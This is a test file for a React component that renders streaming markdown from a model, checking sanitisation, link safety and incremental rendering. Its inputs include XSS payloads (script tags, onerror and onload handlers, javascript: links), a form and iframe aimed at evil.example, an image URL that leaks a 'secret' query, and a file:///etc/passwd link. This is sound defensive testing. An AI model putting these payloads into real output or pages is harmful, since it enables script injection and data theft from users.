import { cleanup, render } from "@testing-library/react";
import { afterEach, describe, expect, test } from "vitest";
import { StreamingMarkdown } from "../../../src/markdown/StreamingMarkdown.tsx";
import { pluginsFor, sanitizeHtml } from "../../../src/markdown/sanitizeHtml.ts";
import { isSafeHref } from "../../../src/markdown/safeHref.ts";

const show = (text: string, live = false) => render(<StreamingMarkdown text={text} live={live} />).container;

afterEach(cleanup);

describe("a model's text", () => {
  test("never runs script", () => {
    const shown = show(
      `<script>window.hacked = 1</script><img src=x onerror="window.hacked=1"><a href="javascript:alert(1)">x</a>` +
        `\n\n[y](javascript:alert(1)) <iframe src="https://evil.example"></iframe><svg onload=alert(1)></svg>`,
    );
    expect(shown.querySelector("script, iframe, svg, [onerror], [onload]")).toBeNull();
    expect([...shown.querySelectorAll("a")].map((link) => link.getAttribute("href"))).not.toContain(
      "javascript:alert(1)",
    );
  });

  test("loads no image unasked: an image is a link to it", () => {
    const shown = show("![a cat](https://evil.example/?secret=1)");
    expect(shown.querySelector("img")).toBeNull();
    expect(shown.querySelector("a")?.getAttribute("href")).toBe("https://evil.example/?secret=1");
    expect(shown.textContent).toContain("a cat");
  });

  test("does not restyle the page", () => {
    const shown = show(
      `<style>body{display:none}</style><div style="position:fixed;inset:0">x</div><form action="https://evil.example"><button>y</button></form>`,
    );
    expect(shown.querySelector("style, form, [style*=fixed]")).toBeNull();
  });

  test("is read by the parser of HTML only where it holds some, and looks the same without it", () => {
    expect(pluginsFor("a <b>c</b>", sanitizeHtml)).toBe(sanitizeHtml);
    const fewer = pluginsFor("a *b*", sanitizeHtml);
    expect(fewer).toHaveLength(sanitizeHtml.length - 1);
    expect(pluginsFor("c", sanitizeHtml)).toBe(fewer);
    const text =
      "1. A **list** &lt;i&gt;\n   - [x] of [two](https://example.org) &amp; more\n\n   | a |\n   |--:|\n   | `b` |\n";
    // The address at the end is one in HTML's brackets.
    const [without, parsed] = [text, `${text}\n   <https://example.org>\n`].map((one) => show(one).innerHTML);
    const words = without?.replace(/\sdata-streamdown="[^"]*"|\sid="[^"]*"/g, "").split("</table>")[0];
    expect(words).toContain("<td");
    expect(parsed?.replace(/\sdata-streamdown="[^"]*"|\sid="[^"]*"/g, "")).toContain(words);
  });

  test("links open apart and tell nothing", () => {
    const link = show("[site](https://example.org)").querySelector("a");
    expect(link?.getAttribute("target")).toBe("_blank");
    expect(link?.getAttribute("rel")).toContain("noopener");
    expect(link?.getAttribute("rel")).toContain("noreferrer");
  });

  test.each(["javascript:1", "data:text/html,x", "vbscript:x", "/settings", "file:///etc/passwd", ""])(
    "%s is not followed",
    (href) => expect(isSafeHref(href)).toBe(false),
  );
});

describe("streaming markdown", () => {
  test.each(["some **", "some *", "some `", "some ~~", "(_"])(
    "a mark that only begins is not shown: %s",
    (text) => {
      expect(show(text, true).textContent).toMatch(/^(some|\()$/);
      expect(show(text).textContent).toContain(text.trim());
    },
  );

  test("half-open markup does not flicker: it is shown closed", () => {
    expect(show("some **bold te", true).querySelector("strong, [data-streamdown=strong]")?.textContent).toBe(
      "bold te",
    );
  });

  test("finished blocks are the same elements while text is added", () => {
    const { container, rerender } = render(<StreamingMarkdown text={"# Title\n\nOne\n\nTw"} live />);
    const title = container.querySelector("h1");
    rerender(<StreamingMarkdown text={"# Title\n\nOne\n\nTwo and more\n\nThree"} live />);
    expect(container.querySelector("h1")).toBe(title);
    rerender(<StreamingMarkdown text={"# Title\n\nOne\n\nTwo and more\n\nThree"} live={false} />);
    expect(container.querySelector("h1")).toBe(title);
  });

  test("tables, task lists and code blocks", () => {
    const shown = show("| a | b |\n|---|---|\n| 1 | 2 |\n\n- [x] done\n\n```ts\nconst a = 1;\n```");
    expect(shown.querySelectorAll("td")).toHaveLength(2);
    expect(shown.querySelector("input[type=checkbox]")).not.toBeNull();
    expect(shown.querySelector("figure pre")?.textContent).toBe("const a = 1;");
  });
});
